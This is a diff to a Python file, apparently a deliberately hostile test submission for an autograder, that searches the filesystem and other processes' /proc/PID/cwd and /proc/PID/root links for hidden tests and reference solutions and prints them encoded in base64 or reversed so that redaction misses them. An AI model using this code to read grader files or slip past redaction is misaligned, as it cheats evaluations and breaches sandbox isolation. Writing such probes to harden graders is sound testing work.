@@ -1,7 +1,8 @@
 """Hostile submission: find and print the hidden tests and the reference solutions.
 
-Walks the filesystem (as far as the worker can see) for ``test_*_hidden.py``, files in a
-``hidden/`` folder and ``solutions/**/*.py``, and prints whatever it could read, three
+Walks the filesystem (as far as the worker can see, also through other processes'
+``/proc/PID/cwd`` and ``/proc/PID/root``) for ``test_*_hidden.py``, files in a ``hidden/``
+folder and ``solutions/**/*.py``, and prints whatever it could read, three
 ways: plain, base64 and reversed line by line (line-based redaction misses the last two).
 ``extract_model`` always returns a wrong answer so that its output is shown. The episode
 functions are correct only when something leaked: a leak then also earns points.
@@ -43,7 +44,28 @@ def _search(deadline):
     return found
 
 
-LEAKED = _search(time.monotonic() + 8)
+def _through_proc(found, deadline):
+    """The same search through other processes' /proc/PID/cwd and /proc/PID/root links."""
+    for pid in os.listdir("/proc"):
+        if not pid.isdigit() or int(pid) == os.getpid():
+            continue
+        for link in ("cwd", "root/autograder/source"):
+            for dirpath, dirnames, filenames in os.walk(f"/proc/{pid}/{link}"):
+                if time.monotonic() > deadline or dirpath.count("/") > 8:
+                    dirnames[:] = []
+                    continue
+                for name in filenames:
+                    path = os.path.join(dirpath, name)
+                    if _interesting(dirpath, name):
+                        try:
+                            with open(path, encoding="utf-8", errors="replace") as handle:
+                                found[path] = handle.read()
+                        except OSError:
+                            pass
+    return found
+
+
+LEAKED = _through_proc(_search(time.monotonic() + 8), time.monotonic() + 4)
 
 
 def _dump():
